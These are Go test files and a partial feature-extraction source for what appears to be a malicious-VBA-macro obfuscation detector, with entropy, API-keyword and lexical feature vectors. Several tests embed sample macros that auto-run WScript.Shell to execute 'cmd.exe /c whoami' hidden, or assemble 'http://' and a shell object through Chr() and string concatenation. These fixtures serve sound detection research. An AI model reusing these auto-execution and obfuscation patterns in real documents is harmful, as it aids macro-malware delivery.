			t.Errorf("channel %q: version %d, want 1", name, c.Version)
		}
		if c.ID() != name+"@1" {
			t.Errorf("channel %q: ID %q", name, c.ID())
		}
	}
	if _, ok := LookupChannel("nope"); ok {
		t.Error("LookupChannel accepted unknown name")
	}
}

func TestRegistryDims(t *testing.T) {
	if d := MustChannel("v").Dim(); d != len(VNames) {
		t.Errorf("v dim = %d, want %d", d, len(VNames))
	}
	if d := MustChannel("j").Dim(); d != len(JNames) {
		t.Errorf("j dim = %d, want %d", d, len(JNames))
	}
	if d := MustChannel("entropy").Dim(); d != EntropyDim {
		t.Errorf("entropy dim = %d, want %d", d, EntropyDim)
	}
	if d := MustChannel("api").Dim(); d != APIDim {
		t.Errorf("api dim = %d, want %d", d, APIDim)
	}
	if APIDim != len(VBABuiltins)+len(SuspiciousKeywords)+2 {
		t.Errorf("APIDim = %d inconsistent with lists", APIDim)
	}
	if len(VBABuiltins) != 65 {
		t.Errorf("len(VBABuiltins) = %d, want 65", len(VBABuiltins))
	}
	if len(SuspiciousKeywords) != 46 {
		t.Errorf("len(SuspiciousKeywords) = %d, want 46", len(SuspiciousKeywords))
	}
}

// The registry's v and j extractors must be the same computation as the
// original V()/J() methods — bit-identical, since pre-registry models
// depend on it.
func TestRegistryVJIdentical(t *testing.T) {
	src := "Sub Auto_Open()\n  Dim s As String\n  s = Chr(72) & Chr(105)\n  ' comment\n  MsgBox s\nEnd Sub\n"
	a := Analyze(src)
	if got, want := MustChannel("v").Extract(a), a.V(); !reflect.DeepEqual(got, want) {
		t.Errorf("v channel diverges from V(): %v vs %v", got, want)
	}
	if got, want := MustChannel("j").Extract(a), a.J(); !reflect.DeepEqual(got, want) {
		t.Errorf("j channel diverges from J(): %v vs %v", got, want)
	}
}

func TestRegisterChannelPanics(t *testing.T) {
	for _, c := range []Channel{
		{Name: "", Version: 1, FeatureNames: []string{"x"}, Extract: (*Analysis).V},
		{Name: "bad", Version: 0, FeatureNames: []string{"x"}, Extract: (*Analysis).V},
		{Name: "bad", Version: 1, FeatureNames: nil, Extract: (*Analysis).V},
		{Name: "bad", Version: 1, FeatureNames: []string{"x"}, Extract: nil},
		{Name: "v", Version: 2, FeatureNames: []string{"x"}, Extract: (*Analysis).V}, // duplicate
	} {
		func() {
			defer func() {
				if recover() == nil {
					t.Errorf("RegisterChannel(%+v) did not panic", c)
				}
			}()
			RegisterChannel(c)
		}()
	}
}

func TestEntropySeriesBasics(t *testing.T) {
	// Constant bytes: every window has zero entropy.
	for _, h := range EntropySeries([]byte(strings.Repeat("A", 1000)), 256, 128, 0) {
		if h != 0 {
			t.Fatalf("constant input produced entropy %v", h)
		}
	}
	// Short input: one partial window.
	s := EntropySeries([]byte("AB"), 256, 128, 0)
	if len(s) != 1 || math.Abs(s[0]-1.0) > 1e-12 {
		t.Fatalf("2-byte series = %v, want [1.0]", s)
	}
	// Empty input: empty series.
	if s := EntropySeries(nil, 256, 128, 0); len(s) != 0 {
		t.Fatalf("empty input produced %v", s)
	}
	// maxWindows truncates.
	if s := EntropySeries([]byte(strings.Repeat("x", 10000)), 256, 128, 3); len(s) != 3 {
		t.Fatalf("maxWindows=3 produced %d windows", len(s))
	}
}

// The incremental sliding histogram must agree with recomputing each
// window from scratch, across awkward window/stride combinations
// (stride > window leaves gaps; stride < window overlaps).
func TestEntropySeriesMatchesNaive(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	data := make([]byte, 3000)
	for i := range data {
		data[i] = byte(rng.Intn(256))
	}
	naive := func(data []byte, window, stride int) []float64 {
		var out []float64
		for start := 0; start < len(data); start += stride {
			end := start + window
			if end > len(data) {
				end = len(data)
			}
			var counts [256]int
			for _, b := range data[start:end] {
				counts[b]++
			}
			out = append(out, entropyFromCounts(&counts, end-start))
			if end >= len(data) {
				break
			}
		}
		return out
	}
	for _, tc := range []struct{ window, stride int }{
		{256, 128}, {256, 256}, {100, 300}, {1, 1}, {7, 3}, {3000, 100}, {64, 64},
	} {
		got := EntropySeries(data, tc.window, tc.stride, 0)
		want := naive(data, tc.window, tc.stride)
		if len(got) != len(want) {
			t.Fatalf("w=%d s=%d: len %d vs naive %d", tc.window, tc.stride, len(got), len(want))
		}
		for i := range got {
			if math.Abs(got[i]-want[i]) > 1e-9 {
				t.Fatalf("w=%d s=%d window %d: %v vs naive %v", tc.window, tc.stride, i, got[i], want[i])
			}
		}
	}
}

func TestEntropyChannelDiscriminates(t *testing.T) {
	plain := strings.Repeat("Sub Hello()\n  MsgBox \"Hello, World\"\nEnd Sub\n", 40)
	rng := rand.New(rand.NewSource(42))
	const b64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	blob := make([]byte, 2048)
	for i := range blob {
		blob[i] = b64[rng.Intn(len(b64))]
	}
	packed := "Sub Go()\n  p = \"" + string(blob) + "\"\nEnd Sub\n"

	ep := ExtractEntropy(plain)
	eb := ExtractEntropy(packed)
	if len(ep) != EntropyDim || len(eb) != EntropyDim {
		t.Fatalf("dims %d/%d, want %d", len(ep), len(eb), EntropyDim)
	}
	if eb[1] <= ep[1] {
		t.Errorf("packed max entropy %v not above plain %v", eb[1], ep[1])
	}
	if eb[5] <= ep[5] {
		t.Errorf("packed high-entropy fraction %v not above plain %v", eb[5], ep[5])
	}
	if eb[5] == 0 || eb[7] == 0 {
		t.Errorf("base64 payload produced no high-entropy windows: frac=%v longest=%v", eb[5], eb[7])
	}
	if ep[5] != 0 {
		t.Errorf("plain VBA crossed the high-entropy threshold: frac=%v", ep[5])
	}
}

func TestEntropyChannelEmptyAndFinite(t *testing.T) {
	zero := ExtractEntropy("")
	for i, v := range zero {
		if v != 0 {
			t.Errorf("empty source entropy[%d] = %v, want 0", i, v)
		}
	}
	for _, src := range []string{"A", "\x00\x00\x00", strings.Repeat("\xff", 5000)} {
		for i, v := range ExtractEntropy(src) {
			if math.IsNaN(v) || math.IsInf(v, 0) {
				t.Errorf("src %q entropy[%d] = %v", src, i, v)
			}
		}
	}
}

func TestEntropyWindowBudget(t *testing.T) {
	lim := hostile.DefaultLimits()
	n := EntropyWindowBudget(lim)
	if n <= 0 {
		t.Fatalf("budget %d", n)
	}
	// The largest admissible macro must fit in the budget exactly.
	if want := int(lim.Normalize().MaxMacroSourceBytes/EntropyStride) + 1; n != want {
		t.Errorf("budget %d, want %d", n, want)
	}
}

func TestAPIChannelCounts(t *testing.T) {
	src := "Sub Auto_Open()\n" +
		"  Dim o\n" +
		"  Set o = CreateObject(\"Wscript.Shell\")\n" +
		"  s = Chr(104) & chr(105) & CHR(33)\n" +
		"  o.Run s\n" +
		"End Sub\n"
	a := Analyze(src)
	v := a.APIChannel()
	if len(v) != APIDim {
		t.Fatalf("dim %d, want %d", len(v), APIDim)
	}
	names := apiFeatureNames()
	idx := func(name string) int {
		for i, n := range names {
			if n == name {
				return i
			}
		}
		t.Fatalf("feature %q missing", name)
		return -1
	}
	code := float64(a.codeChars)
	// Chr appears 3 times in three casings — token matching is
	// case-insensitive.
	if got, want := v[idx("fn_Chr")], 3/code; math.Abs(got-want) > 1e-12 {
		t.Errorf("fn_Chr = %v, want %v", got, want)
	}
	if v[idx("kw_CreateObject")] == 0 {
		t.Error("CreateObject not counted")
	}
	if v[idx("kw_Wscript_Shell")] == 0 {
		t.Error("Wscript.Shell not counted")
	}
	if v[idx("kw_Auto_Open")] == 0 {
		t.Error("Auto_Open not counted")
	}
	if v[idx("kw__Run")] == 0 {
		t.Error(".Run not counted")
	}
	if v[idx("api_fn_total")] == 0 || v[idx("api_kw_total")] == 0 {
		t.Error("block totals are zero")
	}
	// A benign macro without suspicious reach keeps the keyword block at
	// (near) zero.
	benign := Analyze("Sub Add()\n  c = 1 + 2\nEnd Sub\n").APIChannel()
	if got := benign[idx("api_kw_total")]; got != 0 {
		t.Errorf("benign kw total = %v, want 0", got)
	}
}

// Builtins that the lexer classifies as reserved words (Abs, Mid, Xor,
// Open, ...) must still be counted.
func TestAPIChannelKeywordClassifiedBuiltins(t *testing.T) {
	src := "Sub K()\n  a = Abs(-1)\n  m = Mid(s, 1, 2)\n  x = 1 Xor 2\nEnd Sub\n"
	v := ExtractAPI(src)
	names := apiFeatureNames()
	for _, fn := range []string{"fn_Abs", "fn_Mid", "fn_Xor"} {
		found := false
		for i, n := range names {
			if n == fn {
				found = v[i] > 0
				break
			}
		}
		if !found {
			t.Errorf("%s not counted despite appearing in source", fn)
		}
	}
}

// Channel extractors must be pure: repeated and concurrent extraction
// from one shared Analysis yields identical vectors (the macro cache
// shares an Analysis across goroutines).
func TestChannelsPureAndConcurrent(t *testing.T) {
	src := "Sub Auto_Open()\n  Set o = CreateObject(\"Wscript.Shell\")\n  o.Run \"cmd.exe /c whoami\", vbhide\nEnd Sub\n"
	a := Analyze(src)
	type snap struct{ v, j, e, p []float64 }
	base := snap{a.V(), a.J(), a.EntropyChannel(), a.APIChannel()}
	var wg sync.WaitGroup
	errs := make(chan string, 64)
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 8; i++ {
				got := snap{a.V(), a.J(), a.EntropyChannel(), a.APIChannel()}
				if !reflect.DeepEqual(got, base) {
					errs <- "concurrent extraction diverged"
					return
				}
			}
		}()
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Fatal(e)
	}
}

func TestAPIFeatureNamesUnique(t *testing.T) {
	names := apiFeatureNames()
	if len(names) != APIDim {
		t.Fatalf("len(names) = %d, want %d", len(names), APIDim)
	}
	seen := map[string]bool{}
	for _, n := range names {
		if seen[n] {
			t.Errorf("duplicate feature name %q", n)
		}
		seen[n] = true
	}
}

func TestCountSub(t *testing.T) {
	for _, tc := range []struct {
		b, pat string
		want   int
	}{
		{"abcabcabc", "abc", 3},
		{"aaaa", "aa", 2}, // non-overlapping
		{"", "a", 0},
		{"abc", "", 0},
		{"abc", "abcd", 0},
		{"shell shell.application", "shell", 2},
	} {
		if got := countSub([]byte(tc.b), tc.pat); got != tc.want {
			t.Errorf("countSub(%q, %q) = %d, want %d", tc.b, tc.pat, got, tc.want)
		}
	}
}
