package features

import (
	"math"
	"strings"
	"testing"
	"testing/quick"

	"repro/internal/vba"
)

const normalMacro = `Sub SendReport()
    ' Send the weekly report via Outlook
    Dim OutlookApp As Object
    Dim MailItem As Object
    Set OutlookApp = CreateObject("Outlook.Application")
    Set MailItem = OutlookApp.CreateItem(0)
    MailItem.Subject = "Weekly report"
    MailItem.Body = "Please find the report attached."
    MailItem.Display
End Sub
`

const obfuscatedMacro = `Sub ueiwjfdjkfdsv()
    Dim yruuehdjdnnz As String
    Dim qpwxkjvbnmzz As String
    yruuehdjdnnz = Chr(104) & Chr(116) & Chr(116) & Chr(112) & Chr(58) & Chr(47) & Chr(47)
    qpwxkjvbnmzz = Replace("savteRKtofilteRK", "teRK", "e")
    xkjwqpmvnbzl = "WScr" + "ipt.Sh" + "ell"
    CreateObject(xkjwqpmvnbzl).Run yruuehdjdnnz & qpwxkjvbnmzz, 0
End Sub
`

func TestVDimensions(t *testing.T) {
	v := ExtractV(normalMacro)
	if len(v) != VDim || len(VNames) != VDim {
		t.Fatalf("V len = %d, names = %d, want %d", len(v), len(VNames), VDim)
	}
	j := ExtractJ(normalMacro)
	if len(j) != JDim || len(JNames) != JDim {
		t.Fatalf("J len = %d, names = %d, want %d", len(j), len(JNames), JDim)
	}
}

func TestVCodeAndCommentChars(t *testing.T) {
	src := "x = 1 ' note\n"
	v := ExtractV(src)
	if v[1] != float64(len("' note")) {
		t.Errorf("V2 = %v, want %d", v[1], len("' note"))
	}
	if v[0] != float64(len(src)-len("' note")) {
		t.Errorf("V1 = %v", v[0])
	}
	if v[0]+v[1] != float64(len(src)) {
		t.Errorf("V1+V2 = %v, want %d", v[0]+v[1], len(src))
	}
}

func TestVStringFeatures(t *testing.T) {
	src := "a = \"hello\" & \"hi\" + b\n"
	v := ExtractV(src)
	// V5: '&', '+', '=' → 3 operators / code chars.
	wantFreq := 3.0 / float64(len(src))
	if math.Abs(v[4]-wantFreq) > 1e-12 {
		t.Errorf("V5 = %v, want %v", v[4], wantFreq)
	}
	// V6: 7 string chars / total.
	if math.Abs(v[5]-7.0/float64(len(src))) > 1e-12 {
		t.Errorf("V6 = %v", v[5])
	}
	// V7: avg string length = (5+2)/2.
	if v[6] != 3.5 {
		t.Errorf("V7 = %v, want 3.5", v[6])
	}
}

func TestVCallClassPercentages(t *testing.T) {
	src := "x = Chr(65) & Replace(s, a, b)\ny = Abs(-1)\nz = CStr(5)\nw = DDB(1, 2, 3, 4)\nShell cmd, 1\n"
	v := ExtractV(src)
	// 6 calls: Chr, Replace (text), Abs (arith), CStr (conv), DDB (fin), Shell (rich).
	if math.Abs(v[7]-2.0/6) > 1e-9 { // V8 text
		t.Errorf("V8 = %v, want %v", v[7], 2.0/6)
	}
	for i, want := range []float64{1.0 / 6, 1.0 / 6, 1.0 / 6, 1.0 / 6} {
		if math.Abs(v[8+i]-want) > 1e-9 {
			t.Errorf("V%d = %v, want %v", 9+i, v[8+i], want)
		}
	}
}

func TestVIdentifierStats(t *testing.T) {
	src := "Sub ab()\nDim abcd As Long\nEnd Sub\n"
	v := ExtractV(src)
	// identifiers: "ab" (2), "abcd" (4): mean 3, var 1.
	if v[13] != 3 || v[14] != 1 {
		t.Errorf("V14, V15 = %v, %v, want 3, 1", v[13], v[14])
	}
}

func TestEntropy(t *testing.T) {
	if e := ShannonEntropy([]byte{}); e != 0 {
		t.Errorf("entropy(empty) = %v", e)
	}
	if e := ShannonEntropy([]byte("aaaa")); e != 0 {
		t.Errorf("entropy(aaaa) = %v", e)
	}
	if e := ShannonEntropy([]byte("ab")); math.Abs(e-1) > 1e-12 {
		t.Errorf("entropy(ab) = %v, want 1", e)
	}
	// 256 distinct bytes: 8 bits.
	all := make([]byte, 256)
	for i := range all {
		all[i] = byte(i)
	}
	if e := ShannonEntropy(all); math.Abs(e-8) > 1e-12 {
		t.Errorf("entropy(all bytes) = %v, want 8", e)
	}
}

func TestObfuscationShiftsV(t *testing.T) {
	vn := ExtractV(normalMacro)
	vo := ExtractV(obfuscatedMacro)
	// O1 channel: random identifiers push entropy and identifier length up.
	if vo[13] <= vn[13] {
		t.Errorf("V14 ident len: obfuscated %v <= normal %v", vo[13], vn[13])
	}
	// O2 channel: more string operators per char.
	if vo[4] <= vn[4] {
		t.Errorf("V5 string ops: obfuscated %v <= normal %v", vo[4], vn[4])
	}
	// O3 channel: text-function share way up.
	if vo[7] <= vn[7] {
		t.Errorf("V8 text fns: obfuscated %v <= normal %v", vo[7], vn[7])
	}
}

func TestJFeatures(t *testing.T) {
	src := "' c1\nSub A()\nx = \"ab\\cd\"\nEnd Sub\n"
	j := ExtractJ(src)
	if j[0] != float64(len(src)) {
		t.Errorf("J1 = %v", j[0])
	}
	if j[2] != 5 { // 4 newlines → 5 split segments
		t.Errorf("J3 = %v, want 5", j[2])
	}
	if j[3] != 1 {
		t.Errorf("J4 = %v, want 1", j[3])
	}
	if j[9] != 1 {
		t.Errorf("J10 = %v, want 1", j[9])
	}
	if j[16] <= 0 {
		t.Errorf("J17 backslash pct = %v, want > 0", j[16])
	}
	if j[19] <= 0 {
		t.Errorf("J20 = %v, want > 0", j[19])
	}
}

func TestJLongLines(t *testing.T) {
	long := strings.Repeat("x", 200)
	src := "a = 1\n" + long + "\n"
	j := ExtractJ(src)
	if math.Abs(j[13]-1.0/3) > 1e-9 {
		t.Errorf("J14 = %v, want 1/3", j[13])
	}
}

func TestHumanReadable(t *testing.T) {
	readable := []string{"hello", "SendReport", "counter", "value", "document"}
	unreadable := []string{"ueiwjfdjkfdsv", "yruuehdjdnnz", "xkjwqpmvnbzl", "zzzz", "qqqq", "x"}
	for _, w := range readable {
		if !isHumanReadable(w) {
			t.Errorf("isHumanReadable(%q) = false", w)
		}
	}
	for _, w := range unreadable {
		if isHumanReadable(w) {
			t.Errorf("isHumanReadable(%q) = true", w)
		}
	}
}

func TestWordsOf(t *testing.T) {
	got := wordsOf("Dim x_1 = foo(bar, 2)")
	want := []string{"Dim", "x_1", "foo", "bar", "2"}
	if len(got) != len(want) {
		t.Fatalf("wordsOf = %v, want %v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("word %d = %q, want %q", i, got[i], want[i])
		}
	}
}

func TestMeanVar(t *testing.T) {
	m, v := meanVar(nil)
	if m != 0 || v != 0 {
		t.Errorf("meanVar(nil) = %v, %v", m, v)
	}
	m, v = meanVar([]float64{2, 4, 6})
	if m != 4 || math.Abs(v-8.0/3) > 1e-12 {
		t.Errorf("meanVar = %v, %v", m, v)
	}
}

func TestEmptySourceSafe(t *testing.T) {
	for _, src := range []string{"", " ", "\n", "'only comment\n"} {
		v := ExtractV(src)
		j := ExtractJ(src)
		for i, x := range v {
			if math.IsNaN(x) || math.IsInf(x, 0) {
				t.Errorf("src %q: V[%d] = %v", src, i, x)
			}
		}
		for i, x := range j {
			if math.IsNaN(x) || math.IsInf(x, 0) {
				t.Errorf("src %q: J[%d] = %v", src, i, x)
			}
		}
	}
}

func TestFeaturesAlwaysFinite(t *testing.T) {
	f := func(src string) bool {
		for _, x := range ExtractV(src) {
			if math.IsNaN(x) || math.IsInf(x, 0) {
				return false
			}
		}
		for _, x := range ExtractJ(src) {
			if math.IsNaN(x) || math.IsInf(x, 0) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestPercentageFeaturesBounded(t *testing.T) {
	f := func(src string) bool {
		v := ExtractV(src)
		// V6, V8..V12 are percentages in [0, 1].
		for _, i := range []int{5, 7, 8, 9, 10, 11} {
			if v[i] < 0 || v[i] > 1 {
				return false
			}
		}
		j := ExtractJ(src)
		for _, i := range []int{4, 5, 13, 15, 16} {
			if j[i] < 0 || j[i] > 1 {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

// Line counting is an index scan recognizing "\n", "\r\n" and lone "\r"
// terminators. The lone-CR case is the regression: the old
// strings.Split(src, "\n") implementation treated "a\rb" as one line.
func TestLineCounting(t *testing.T) {
	cases := []struct {
		src       string
		lines     float64
		longLines float64
	}{
		{"", 1, 0},
		{"a", 1, 0},
		{"a\n", 2, 0},
		{"a\nb", 2, 0},
		{"a\r\nb\r\n", 3, 0},
		{"a\rb", 2, 0},       // lone CR is a terminator (the fix)
		{"a\rb\rc", 3, 0},    // classic-Mac endings
		{"a\r\r\n", 3, 0},    // lone CR then CRLF
		{"x\n\r\ny\r", 4, 0}, // mixed endings
		{strings.Repeat("x", 151) + "\r\n" + strings.Repeat("y", 151) + "\rz", 3, 2},
		{strings.Repeat("x", 151), 1, 1}, // unterminated long line
		{strings.Repeat("x", 150) + "\n", 2, 0},
	}
	for _, tc := range cases {
		j := ExtractJ(tc.src)
		if j[2] != tc.lines {
			t.Errorf("src %q: J3 lines = %v, want %v", tc.src, j[2], tc.lines)
		}
		wantPct := 0.0
		if tc.lines > 0 {
			wantPct = tc.longLines / tc.lines
		}
		if j[13] != wantPct {
			t.Errorf("src %q: J14 long-line pct = %v, want %v", tc.src, j[13], wantPct)
		}
	}
}

// The streaming single-pass Analyze must agree exactly with slice-based
// reference computations of the same statistics.
func TestStreamingMatchesReference(t *testing.T) {
	srcs := []string{normalMacro, obfuscatedMacro, "", "x = \"a\"\"b\" ' note\n"}
	for _, src := range srcs {
		a := Analyze(src)
		v, j := a.V(), a.J()

		// V3/V4 via materialized words of the space-joined non-comment
		// token texts.
		var sb strings.Builder
		for _, tok := range a.Module().Tokens {
			if tok.Kind == vba.KindComment {
				continue
			}
			sb.WriteString(tok.Text)
			sb.WriteByte(' ')
		}
		var lens []float64
		for _, w := range wordsOf(sb.String()) {
			lens = append(lens, float64(len(w)))
		}
		mean, variance := meanVar(lens)
		if v[2] != mean || v[3] != variance {
			t.Errorf("src %q: V3/V4 = %v/%v, want %v/%v", src, v[2], v[3], mean, variance)
		}

		// V14/V15 via the materialized identifier list.
		lens = lens[:0]
		for _, id := range a.Module().Identifiers() {
			lens = append(lens, float64(len(id)))
		}
		mean, variance = meanVar(lens)
		if v[13] != mean || v[14] != variance {
			t.Errorf("src %q: V14/V15 = %v/%v, want %v/%v", src, v[13], v[14], mean, variance)
		}

		// V7/J8 via decoded string values.
		lens = lens[:0]
		for _, tok := range a.Module().Strings() {
			lens = append(lens, float64(len(tok.StringValue())))
		}
		mean, _ = meanVar(lens)
		if v[6] != mean || j[7] != mean {
			t.Errorf("src %q: V7 = %v, J8 = %v, want %v", src, v[6], j[7], mean)
		}

		// V13/J15 entropy via the exported []byte implementation.
		if e := ShannonEntropy([]byte(src)); v[12] != e || j[14] != e {
			t.Errorf("src %q: entropy = %v/%v, want %v", src, v[12], j[14], e)
		}

		// J12/J13 word counts via materialized words.
		words := wordsOf(src)
		if j[11] != float64(len(words)) {
			t.Errorf("src %q: J12 = %v, want %d", src, j[11], len(words))
		}
	}
}

func TestAnalyzeOnce(t *testing.T) {
	a := Analyze(normalMacro)
	v1 := a.V()
	v2 := a.V()
	for i := range v1 {
		if v1[i] != v2[i] {
			t.Fatalf("V not deterministic at %d", i)
		}
	}
}

func BenchmarkExtractV(b *testing.B) {
	src := strings.Repeat(normalMacro, 10)
	b.SetBytes(int64(len(src)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		ExtractV(src)
	}
}

func BenchmarkExtractJ(b *testing.B) {
	src := strings.Repeat(normalMacro, 10)
	b.SetBytes(int64(len(src)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		ExtractJ(src)
	}
}
