// Package features implements the static feature sets of the paper: the
// proposed V1–V15 vector (Table IV) designed around the four obfuscation
// types O1–O4, and the comparison J1–J20 vector (Table VI) assembled from
// the JavaScript-obfuscation literature (Likarish'09, Aebersold'16) with
// the paper's VBA adaptations (J14 threshold of 150 characters).
package features

import (
	"math"
	"strings"

	"repro/internal/vba"
	"repro/internal/vba/catalog"
)

// VDim and JDim are the lengths of the two feature vectors.
const (
	VDim = 15
	JDim = 20
)

// VNames lists the 15 proposed features in Table IV order.
var VNames = []string{
	"V1_code_chars", "V2_comment_chars", "V3_word_len_avg", "V4_word_len_var",
	"V5_string_op_freq", "V6_string_char_pct", "V7_string_len_avg",
	"V8_text_fn_pct", "V9_arith_fn_pct", "V10_conv_fn_pct",
	"V11_fin_fn_pct", "V12_rich_fn_pct", "V13_entropy",
	"V14_ident_len_avg", "V15_ident_len_var",
}

// JNames lists the 20 comparison features in Table VI order.
var JNames = []string{
	"J1_length_chars", "J2_chars_per_line", "J3_lines", "J4_strings",
	"J5_human_readable_pct", "J6_whitespace_pct", "J7_methods_called_pct",
	"J8_string_len_avg", "J9_arg_len_avg", "J10_comments",
	"J11_comments_per_line", "J12_words", "J13_words_not_comment_pct",
	"J14_long_line_pct", "J15_entropy", "J16_string_char_share",
	"J17_backslash_pct", "J18_chars_per_fn_body", "J19_fn_body_char_pct",
	"J20_fn_defs_per_char",
}

// Analysis holds everything computed from one macro source; V and J read
// from it so a single parse serves both feature sets.
type Analysis struct {
	src    string
	module *vba.Module

	codeChars    int // chars outside comments
	commentChars int
	commentCount int

	words        []string
	wordsInCode  []string
	stringValues []string
	identifiers  []string

	lines     int
	longLines int // lines > 150 chars (paper's VBA-adapted J14)

	callTotal   int
	callByClass map[catalog.Class]int
	argChars    int

	entropy float64
}

// Module exposes the parsed syntactic view behind the analysis, so
// downstream passes (triage, deobfuscation) can reuse the single parse
// instead of re-lexing the same source.
func (a *Analysis) Module() *vba.Module { return a.module }

// Source returns the analyzed macro text.
func (a *Analysis) Source() string { return a.src }

// Analyze parses src and computes the shared statistics once.
func Analyze(src string) *Analysis {
	a := &Analysis{
		src:         src,
		module:      vba.Parse(src),
		callByClass: make(map[catalog.Class]int),
	}

	for _, t := range a.module.Tokens {
		if t.Kind == vba.KindComment {
			a.commentChars += len(t.Text)
			a.commentCount++
		}
	}
	a.codeChars = len(src) - a.commentChars

	for _, t := range a.module.Strings() {
		a.stringValues = append(a.stringValues, t.StringValue())
	}
	a.identifiers = a.module.Identifiers()

	a.words = wordsOf(src)
	a.wordsInCode = wordsOf(stripComments(a.module))

	for _, line := range strings.Split(src, "\n") {
		a.lines++
		if len(strings.TrimRight(line, "\r")) > 150 {
			a.longLines++
		}
	}

	for _, c := range a.module.Calls {
		a.callTotal++
		a.callByClass[catalog.Classify(c.Name)]++
		if c.ArgChars > 0 {
			a.argChars += c.ArgChars
		}
	}

	a.entropy = ShannonEntropy([]byte(src))
	return a
}

// V returns the proposed 15-dimension feature vector.
//
// Count-valued features are normalized by V1 (the comment-free code
// length) per the paper's §IV.C normalization rule.
func (a *Analysis) V() []float64 {
	v := make([]float64, VDim)
	v[0] = float64(a.codeChars)
	v[1] = float64(a.commentChars)
	v[2], v[3] = meanVar(lengths(a.wordsInCode))
	v[4] = ratio(float64(a.stringOps()), float64(a.codeChars))
	v[5] = ratio(float64(a.stringChars()), float64(len(a.src)))
	v[6], _ = meanVar(lengths(a.stringValues))
	v[7] = a.callClassPct(catalog.ClassText)
	v[8] = a.callClassPct(catalog.ClassArithmetic)
	v[9] = a.callClassPct(catalog.ClassConversion)
	v[10] = a.callClassPct(catalog.ClassFinancial)
	v[11] = a.callClassPct(catalog.ClassRich)
	v[12] = a.entropy
	v[13], v[14] = meanVar(lengths(a.identifiers))
	return v
}

// J returns the 20-dimension comparison vector from the JavaScript
// obfuscation-detection literature.
func (a *Analysis) J() []float64 {
	j := make([]float64, JDim)
	j[0] = float64(len(a.src))
	j[1] = ratio(float64(len(a.src)), float64(a.lines))
	j[2] = float64(a.lines)
	j[3] = float64(len(a.stringValues))
	j[4] = a.humanReadablePct()
	j[5] = a.whitespacePct()
	j[6] = ratio(float64(a.callTotal), float64(len(a.words)))
	j[7], _ = meanVar(lengths(a.stringValues))
	j[8] = ratio(float64(a.argChars), float64(a.callTotal))
	j[9] = float64(a.commentCount)
	j[10] = ratio(float64(a.commentCount), float64(a.lines))
	j[11] = float64(len(a.words))
	j[12] = ratio(float64(len(a.wordsInCode)), float64(len(a.words)))
	j[13] = ratio(float64(a.longLines), float64(a.lines))
	j[14] = a.entropy
	j[15] = ratio(float64(a.stringChars()), float64(len(a.src)))
	j[16] = ratio(float64(strings.Count(a.src, `\`)), float64(len(a.src)))
	bodyChars := a.procBodyChars()
	j[17] = ratio(float64(bodyChars), float64(len(a.module.Procedures)))
	j[18] = ratio(float64(bodyChars), float64(len(a.src)))
	j[19] = ratio(float64(len(a.module.Procedures)), float64(len(a.src)))
	return j
}

// procBodyChars counts the raw source characters of the lines strictly
// between each procedure header and its End statement (whitespace
// included), the J18/J19 "function body" notion.
func (a *Analysis) procBodyChars() int {
	lines := strings.Split(a.src, "\n")
	total := 0
	for _, p := range a.module.Procedures {
		for ln := p.StartLine; ln < p.EndLine-1 && ln < len(lines); ln++ {
			total += len(lines[ln]) + 1
		}
	}
	return total
}

// ExtractV is the convenience one-shot V-vector extractor.
func ExtractV(src string) []float64 { return Analyze(src).V() }

// ExtractJ is the convenience one-shot J-vector extractor.
func ExtractJ(src string) []float64 { return Analyze(src).J() }

// stringOps counts the string-operator occurrences the paper's V5 targets:
// '&', '+' and '=' tokens in code (operators only, not characters inside
// strings or comments).
func (a *Analysis) stringOps() int {
	n := 0
	for _, t := range a.module.Tokens {
		if t.Kind == vba.KindOperator && (t.Text == "&" || t.Text == "+" || t.Text == "=") {
			n++
		}
	}
	return n
}

// stringChars is the number of characters inside string literals
// (excluding the quotes).
func (a *Analysis) stringChars() int {
	n := 0
	for _, s := range a.stringValues {
		n += len(s)
	}
	return n
}

func (a *Analysis) callClassPct(c catalog.Class) float64 {
	return ratio(float64(a.callByClass[c]), float64(a.callTotal))
}

// humanReadablePct is the J5 heuristic: the share of alphabetic words that
// look like natural-language or camel-case identifiers rather than random
// strings. Pure numbers are excluded from the denominator — they are not
// candidate "words" in the natural-language sense.
func (a *Analysis) humanReadablePct() float64 {
	readable, letterWords := 0, 0
	for _, w := range a.words {
		if !hasLetter(w) {
			continue
		}
		letterWords++
		if isHumanReadable(w) {
			readable++
		}
	}
	if letterWords == 0 {
		return 0
	}
	return float64(readable) / float64(letterWords)
}

func hasLetter(w string) bool {
	for i := 0; i < len(w); i++ {
		c := w[i]
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' {
			return true
		}
	}
	return false
}

func (a *Analysis) whitespacePct() float64 {
	ws := 0
	for i := 0; i < len(a.src); i++ {
		switch a.src[i] {
		case ' ', '\t', '\r', '\n':
			ws++
		}
	}
	return ratio(float64(ws), float64(len(a.src)))
}

// wordsOf splits source into "words": maximal runs of alphanumeric or
// underscore characters, the unit the paper borrows from Likarish et al.
// ("delimited by whitespace and VBA programming language symbols").
func wordsOf(src string) []string {
	var words []string
	start := -1
	for i := 0; i < len(src); i++ {
		c := src[i]
		isWord := c == '_' || c >= '0' && c <= '9' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= 0x80
		if isWord {
			if start < 0 {
				start = i
			}
			continue
		}
		if start >= 0 {
			words = append(words, src[start:i])
			start = -1
		}
	}
	if start >= 0 {
		words = append(words, src[start:])
	}
	return words
}

// stripComments reconstructs the source without comment tokens.
func stripComments(m *vba.Module) string {
	var sb strings.Builder
	sb.Grow(len(m.Source))
	for _, t := range m.Tokens {
		if t.Kind == vba.KindComment {
			continue
		}
		sb.WriteString(t.Text)
		sb.WriteByte(' ')
	}
	return sb.String()
}

// ShannonEntropy computes the byte-level Shannon entropy (bits/char) used
// by V13 and J15.
func ShannonEntropy(data []byte) float64 {
	if len(data) == 0 {
